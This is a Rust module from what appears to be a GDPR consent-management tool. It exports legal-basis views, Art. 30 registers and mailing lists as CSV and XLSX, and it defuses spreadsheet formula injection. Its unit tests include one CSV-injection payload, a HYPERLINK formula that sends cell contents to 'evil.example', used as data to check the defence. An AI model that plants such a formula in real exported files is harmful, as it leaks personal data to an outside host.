//! File formats for what leaves the vault on purpose: CSV, XLSX and HTML
//! renderings of the legal-basis view and the Art. 30 register. Pure
//! functions of their input; the caller decides where the bytes go. CSV is
//! written by the `csv` crate, XLSX by `rust_xlsxwriter`.

pub mod contacts;
mod html;
pub mod mail;
pub mod package;
pub mod vcard;

pub use html::register_html;

use std::borrow::Cow;

use rust_xlsxwriter::{Format, Workbook, Worksheet, XlsxError};

use serde::{Deserialize, Serialize};

use crate::error::{Error, Result};
use crate::model::categories::Lang;
use crate::model::consent::{ConsentEntry, LegalBasisView, MailingRow};
use crate::model::register::Register;

/// File formats of exports.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
#[cfg_attr(feature = "ts", derive(ts_rs::TS))]
pub enum ExportFormat {
    /// Spreadsheet (opens in LibreOffice and Excel).
    Xlsx,
    /// Comma-separated values, UTF-8.
    Csv,
    /// A self-contained web page.
    Html,
}

impl ExportFormat {
    /// The file extension.
    pub fn extension(self) -> &'static str {
        match self {
            ExportFormat::Xlsx => "xlsx",
            ExportFormat::Csv => "csv",
            ExportFormat::Html => "html",
        }
    }

    /// Parses an extension or format name.
    pub fn parse(s: &str) -> Option<Self> {
        match s.trim().to_lowercase().as_str() {
            "xlsx" => Some(ExportFormat::Xlsx),
            "csv" => Some(ExportFormat::Csv),
            "html" | "htm" => Some(ExportFormat::Html),
            _ => None,
        }
    }
}

/// The cell as a CSV file holds it: every cell a spreadsheet would read as
/// a formula — first character `=`, `+`, `-`, `@`, tab or CR — gets a
/// leading apostrophe `'`, with no exception for numbers: `-1+HYPERLINK(…)`
/// is a formula as much as `=1`. The apostrophe is the OWASP
/// recommendation; Excel and LibreOffice Calc read it as "this cell is
/// text" and hide it, so a phone number `+49 30 1234` shows as itself (as
/// text, not as the number 49301234) and a plain-text reader sees
/// `'+49 30 1234`, which is still readable.
pub fn guard_formula(cell: &str) -> Cow<'_, str> {
    if matches!(
        cell.chars().next(),
        Some('=' | '+' | '-' | '@' | '\t' | '\r')
    ) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// A CSV file being written. The `csv` crate quotes as RFC 4180 asks (a
/// cell with a comma, a quote, CR or LF is quoted, its quotes doubled),
/// ends every line with CRLF and takes rows of any length, so one file can
/// hold tables of different widths; every cell passes [`guard_formula`]
/// first. A row of one empty cell comes out as `""`, so that a reader does
/// not take it for a blank line; no file here has such a row.
pub(crate) struct CsvFile {
    out: csv::Writer<Vec<u8>>,
}

impl CsvFile {
    /// A file that begins with `start`.
    fn new(start: &str) -> Self {
        CsvFile {
            out: Self::writer(start.as_bytes().to_vec()),
        }
    }

    fn writer(bytes: Vec<u8>) -> csv::Writer<Vec<u8>> {
        csv::WriterBuilder::new()
            .flexible(true)
            .terminator(csv::Terminator::CRLF)
            .quote_style(csv::QuoteStyle::Necessary)
            .from_writer(bytes)
    }

    /// A file that begins with the UTF-8 byte-order mark, so spreadsheet
    /// programs read umlauts.
    pub(crate) fn with_bom() -> Self {
        CsvFile::new("\u{feff}")
    }

    /// Appends one row.
    pub(crate) fn row<S: AsRef<str>>(&mut self, cells: &[S]) {
        let cells: Vec<Cow<'_, str>> = cells.iter().map(|c| guard_formula(c.as_ref())).collect();
        self.out
            .write_record(cells.iter().map(|c| c.as_bytes()))
            .expect("rows of any length go into memory");
    }

    /// Appends an empty line, which separates two tables. The `csv` crate
    /// writes none (a row of no cells comes out as `""`), so the line goes
    /// into the bytes written so far, and writing goes on after it.
    pub(crate) fn blank_line(&mut self) {
        let written = std::mem::replace(&mut self.out, Self::writer(Vec::new()));
        let mut bytes = Self::bytes(written);
        bytes.extend_from_slice(b"\r\n");
        self.out = Self::writer(bytes);
    }

    fn bytes(out: csv::Writer<Vec<u8>>) -> Vec<u8> {
        out.into_inner()
            .map_err(|e| e.into_error())
            .expect("a Vec<u8> takes every byte")
    }

    /// The file's text.
    pub(crate) fn finish(self) -> String {
        String::from_utf8(Self::bytes(self.out)).expect("every cell was UTF-8")
    }
}

fn xlsx_err(e: XlsxError) -> Error {
    Error::Store(format!("cannot write the spreadsheet: {e}"))
}

/// Writes a table: a bold header row, then rows; widths fitted to content.
fn sheet(ws: &mut Worksheet, name: &str, header: &[&str], rows: &[Vec<String>]) -> Result<()> {
    ws.set_name(name).map_err(xlsx_err)?;
    let bold = Format::new().set_bold();
    let wrap = Format::new().set_text_wrap();
    let mut widths: Vec<usize> = header.iter().map(|h| h.chars().count()).collect();
    for (c, h) in header.iter().enumerate() {
        let col = u16::try_from(c).unwrap_or(u16::MAX);
        ws.write_string_with_format(0, col, *h, &bold)
            .map_err(xlsx_err)?;
    }
    for (r, row) in rows.iter().enumerate() {
        let rn = u32::try_from(r + 1).unwrap_or(u32::MAX);
        for (c, cell) in row.iter().enumerate() {
            let col = u16::try_from(c).unwrap_or(u16::MAX);
            ws.write_string_with_format(rn, col, cell, &wrap)
                .map_err(xlsx_err)?;
            if let Some(w) = widths.get_mut(c) {
                *w = (*w).max(cell.lines().map(|l| l.chars().count()).max().unwrap_or(0));
            }
        }
    }
    for (c, w) in widths.iter().enumerate() {
        let col = u16::try_from(c).unwrap_or(u16::MAX);
        #[allow(clippy::cast_precision_loss)]
        ws.set_column_width(col, (*w).clamp(8, 60) as f64 + 2.0)
            .map_err(xlsx_err)?;
    }
    ws.set_freeze_panes(1, 0).map_err(xlsx_err)?;
    Ok(())
}

fn date(t: chrono::DateTime<chrono::Utc>) -> String {
    t.format("%Y-%m-%d %H:%M UTC").to_string()
}

fn yes_no(b: bool, lang: Lang) -> &'static str {
    if b {
        lang.pick("ja", "yes")
    } else {
        lang.pick("nein", "no")
    }
}

fn history_header(lang: Lang) -> Vec<&'static str> {
    vec![
        lang.pick("Zeitpunkt", "When"),
        lang.pick("Zweck", "Purpose"),
        lang.pick("Kanal", "Channel"),
        lang.pick("Status", "State"),
        lang.pick("Rechtsgrundlage", "Legal basis"),
        lang.pick("Quelle", "Source"),
        lang.pick("Nachweis", "Evidence"),
        lang.pick("Erfasst von", "Recorded by"),
    ]
}

fn history_row(e: &ConsentEntry, view: &LegalBasisView, lang: Lang) -> Vec<String> {
    let purpose = view
        .purposes
        .iter()
        .find(|p| p.purpose.key == e.purpose)
        .map_or(e.purpose.clone(), |p| p.purpose.name(lang).to_owned());
    let mut evidence = e.evidence.clone().unwrap_or_default();
    if let Some(r) = &e.reason {
        evidence = format!("{}{r}", lang.pick("Grund: ", "Reason: "));
    }
    if let Some(f) = &e.evidence_file {
        evidence.push_str(&format!(" [{} · SHA-256 {}]", f.name, f.sha256));
    }
    vec![
        date(e.at),
        purpose,
        e.channel.label(lang).to_owned(),
        e.state.label(lang).to_owned(),
        e.basis.label(lang),
        e.source.clone(),
        evidence.trim().to_owned(),
        e.by.clone(),
    ]
}

fn basis_header(lang: Lang) -> Vec<&'static str> {
    vec![
        lang.pick("Zweck", "Purpose"),
        lang.pick("Rechtsgrundlage des Zwecks", "Purpose's legal basis"),
        lang.pick("Einwilligung nötig", "Consent required"),
        lang.pick("Rechtmäßig", "Lawful"),
        lang.pick("Kanal", "Channel"),
        lang.pick("Status", "State"),
        lang.pick("Gültig bis", "Valid until"),
        lang.pick("Quelle", "Source"),
        lang.pick("Seit", "Since"),
        lang.pick("Erfasst von", "Recorded by"),
    ]
}

fn basis_rows(view: &LegalBasisView, lang: Lang) -> Vec<Vec<String>> {
    let mut rows = Vec::new();
    for p in &view.purposes {
        let head = [
            p.purpose.name(lang).to_owned(),
            p.purpose.basis.label(lang),
            yes_no(p.purpose.consent_required, lang).to_owned(),
            yes_no(p.lawful, lang).to_owned(),
        ];
        if p.channels.is_empty() {
            let mut row = head.to_vec();
            row.extend([
                String::new(),
                lang.pick("keine Einwilligung erfasst", "no consent recorded")
                    .to_owned(),
                String::new(),
                String::new(),
                String::new(),
                String::new(),
            ]);
            rows.push(row);
        }
        for c in &p.channels {
            let mut row = head.to_vec();
            row.extend([
                c.channel.label(lang).to_owned(),
                c.state.label(lang).to_owned(),
                c.expires.map(date).unwrap_or_default(),
                c.entry.source.clone(),
                date(c.entry.at),
                c.entry.by.clone(),
            ]);
            rows.push(row);
        }
    }
    rows
}

/// The legal-basis view as CSV: one section per table, separated by a blank line.
pub fn legal_basis_csv(view: &LegalBasisView, lang: Lang) -> String {
    let mut out = CsvFile::with_bom();
    out.row(&[lang.pick("Person", "Person"), &view.display]);
    out.row(&[lang.pick("Erstellt", "Generated"), &date(view.generated)]);
    out.blank_line();
    out.row(&basis_header(lang));
    for row in basis_rows(view, lang) {
        out.row(&row);
    }
    out.blank_line();
    out.row(&history_header(lang));
    for e in &view.history {
        out.row(&history_row(e, view, lang));
    }
    out.finish()
}

/// The legal-basis view as an XLSX workbook (legal bases, history, disclosures).
pub fn legal_basis_xlsx(view: &LegalBasisView, lang: Lang) -> Result<Vec<u8>> {
    let mut wb = Workbook::new();
    sheet(
        wb.add_worksheet(),
        lang.pick("Rechtsgrundlagen", "Legal bases"),
        &basis_header(lang),
        &basis_rows(view, lang),
    )?;
    let history: Vec<Vec<String>> = view
        .history
        .iter()
        .map(|e| history_row(e, view, lang))
        .collect();
    sheet(
        wb.add_worksheet(),
        lang.pick("Verlauf", "History"),
        &history_header(lang),
        &history,
    )?;
    let disclosures: Vec<Vec<String>> = view
        .disclosures
        .iter()
        .map(|d| vec![date(d.at), d.what(lang), d.count.to_string(), d.by.clone()])
        .collect();
    sheet(
        wb.add_worksheet(),
        lang.pick("Weitergaben", "Disclosures"),
        &[
            lang.pick("Zeitpunkt", "When"),
            lang.pick("Was", "What"),
            lang.pick("Personen in der Datei", "People in the file"),
            lang.pick("Exportiert von", "Exported by"),
        ],
        &disclosures,
    )?;
    let about = vec![
        vec![
            lang.pick("Person", "Person").to_owned(),
            view.display.clone(),
        ],
        vec![
            lang.pick("Erstellt", "Generated").to_owned(),
            date(view.generated),
        ],
    ];
    sheet(
        wb.add_worksheet(),
        lang.pick("Über", "About"),
        &["", ""],
        &about,
    )?;
    wb.save_to_buffer().map_err(xlsx_err)
}

fn register_purpose_rows(r: &Register, lang: Lang) -> Vec<Vec<String>> {
    r.content
        .purposes
        .iter()
        .map(|p| {
            let cats: Vec<&str> = p.categories.iter().map(|c| c.label(lang)).collect();
            let retention: Vec<String> = p
                .categories
                .iter()
                .filter_map(|c| {
                    r.content
                        .categories
                        .iter()
                        .find(|rc| rc.category == *c)
                        .map(|rc| format!("{}: {}", c.label(lang), rc.retention.get(lang)))
                })
                .collect();
            let roles: Vec<String> = r
                .content
                .categories
                .iter()
                .filter(|rc| p.categories.contains(&rc.category))
                .flat_map(|rc| rc.roles.iter().map(|x| x.as_str().to_owned()))
                .collect::<std::collections::BTreeSet<_>>()
                .into_iter()
                .collect();
            vec![
                p.name(lang).to_owned(),
                p.description_in(lang).to_owned(),
                p.basis.label(lang),
                cats.join(", "),
                p.recipients.join(", "),
                yes_no(p.consent_required, lang).to_owned(),
                p.validity_months
                    .map_or_else(|| "—".to_owned(), |m| m.to_string()),
                retention.join("\n"),
                roles.join(", "),
            ]
        })
        .collect()
}

fn register_purpose_header(lang: Lang) -> Vec<&'static str> {
    vec![
        lang.pick("Zweck", "Purpose"),
        lang.pick("Beschreibung", "Description"),
        lang.pick("Rechtsgrundlage", "Legal basis"),
        lang.pick("Datenkategorien", "Data categories"),
        lang.pick("Empfänger", "Recipients"),
        lang.pick("Einwilligung nötig", "Consent required"),
        lang.pick(
            "Gültigkeit der Einwilligung (Monate)",
            "Consent validity (months)",
        ),
        lang.pick("Löschfristen", "Retention"),
        lang.pick("Rollen mit Zugriff", "Roles with access"),
    ]
}

fn register_category_rows(r: &Register, lang: Lang) -> Vec<Vec<String>> {
    r.content
        .categories
        .iter()
        .map(|c| {
            let fields: Vec<&str> = c.fields.iter().map(|f| f.get(lang)).collect();
            let roles: Vec<&str> = c.roles.iter().map(|x| x.as_str()).collect();
            let purposes = if c.purposes.is_empty() {
                lang.pick("KEIN ZWECK – prüfen", "NO PURPOSE – review")
                    .to_owned()
            } else {
                c.purposes.join(", ")
            };
            vec![
                c.category.label(lang).to_owned(),
                fields.join(", "),
                c.compartment
                    .map_or_else(String::new, |x| x.as_str().to_owned()),
                roles.join(", "),
                purposes,
                c.retention.get(lang).to_owned(),
            ]
        })
        .collect()
}

fn register_category_header(lang: Lang) -> Vec<&'static str> {
    vec![
        lang.pick("Kategorie", "Category"),
        lang.pick("Felder", "Fields"),
        lang.pick("Eigener Schlüssel", "Own key"),
        lang.pick("Lesende Rollen", "Roles that read it"),
        lang.pick("Zwecke", "Purposes"),
        lang.pick("Löschfrist", "Retention"),
    ]
}

fn register_title(lang: Lang) -> &'static str {
    lang.pick(
        "Verzeichnis von Verarbeitungstätigkeiten (Art. 30 DSGVO)",
        "Record of processing activities (Art. 30 GDPR)",
    )
}

fn version_line(r: &Register, lang: Lang) -> String {
    format!(
        "{} {} · {} · {}",
        lang.pick("Version", "Version"),
        r.version,
        date(r.created),
        r.created_by
    )
}

/// The register as an XLSX workbook.
pub fn register_xlsx(r: &Register, lang: Lang) -> Result<Vec<u8>> {
    let mut wb = Workbook::new();
    sheet(
        wb.add_worksheet(),
        lang.pick("Verarbeitungstätigkeiten", "Processing activities"),
        &register_purpose_header(lang),
        &register_purpose_rows(r, lang),
    )?;
    sheet(
        wb.add_worksheet(),
        lang.pick("Datenkategorien", "Data categories"),
        &register_category_header(lang),
        &register_category_rows(r, lang),
    )?;
    let measures: Vec<Vec<String>> = r
        .content
        .measures
        .iter()
        .map(|m| vec![m.get(lang).to_owned()])
        .collect();
    sheet(
        wb.add_worksheet(),
        lang.pick("TOM (Art. 32)", "Measures (Art. 32)"),
        &[lang.pick(
            "Technische und organisatorische Maßnahmen",
            "Technical and organisational measures",
        )],
        &measures,
    )?;
    sheet(
        wb.add_worksheet(),
        lang.pick("Version", "Version"),
        &[register_title(lang)],
        &[vec![version_line(r, lang)]],
    )?;
    wb.save_to_buffer().map_err(xlsx_err)
}

/// A mailing list as CSV (UTF-8 with BOM so spreadsheet programs read umlauts).
pub fn mailing_csv(rows: &[MailingRow]) -> String {
    let mut out = CsvFile::with_bom();
    out.row(&[
        "id",
        "salutation",
        "title",
        "given_name",
        "family_name",
        "address",
        "language",
    ]);
    for r in rows {
        out.row(&[
            r.person.to_string().as_str(),
            &r.salutation,
            &r.title,
            &r.given_name,
            &r.family_name,
            &r.address,
            &r.language,
        ]);
    }
    out.finish()
}

#[cfg(test)]
mod tests {
    use super::*;

    /// One row as a file without a BOM holds it.
    fn line(cells: &[&str]) -> String {
        let mut out = CsvFile::new("");
        out.row(cells);
        out.finish()
    }

    #[test]
    fn csv_quotes_and_defuses_formulas() {
        let s = line(&["a,b", "say \"hi\"", "=HYPERLINK(1)", "plain"]);
        assert_eq!(s, "\"a,b\",\"say \"\"hi\"\"\",'=HYPERLINK(1),plain\r\n");
        let t = line(&["+49 171 2345678", "+SUM(A1)", "-1", "@x"]);
        assert_eq!(t, "'+49 171 2345678,'+SUM(A1),'-1,'@x\r\n");
        let u = line(&[
            "-1+HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
            "+1 cmd",
            "- 2",
            "\tx",
            "\rx",
            "a-1",
            "'already",
        ]);
        assert_eq!(
            u,
            "\"'-1+HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\",\
             '+1 cmd,'- 2,'\tx,\"'\rx\",a-1,'already\r\n"
        );
    }

    #[test]
    fn a_csv_file_has_a_bom_crlf_lines_and_blank_lines_between_tables() {
        let mut out = CsvFile::with_bom();
        out.row(&["a", "b"]);
        out.blank_line();
        out.row(&["c", "", "d"]);
        assert_eq!(out.finish(), "\u{feff}a,b\r\n\r\nc,,d\r\n");
    }

    #[test]
    fn a_cell_with_a_quote_a_comma_and_a_newline_reads_back_unchanged() {
        let cell = "Hof \"Linde\", Tor 2\nbitte klingeln";
        let mut out = CsvFile::with_bom();
        out.row(&["name", "address"]);
        out.row(&["Jörg", cell]);
        let text = out.finish();
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(text.as_bytes());
        let rows: Vec<csv::StringRecord> = reader.records().collect::<Result<_, _>>().expect("csv");
        assert_eq!(rows.len(), 2);
        assert_eq!(rows[0].iter().collect::<Vec<_>>(), ["name", "address"]);
        assert_eq!(rows[1].iter().collect::<Vec<_>>(), ["Jörg", cell]);
    }
}
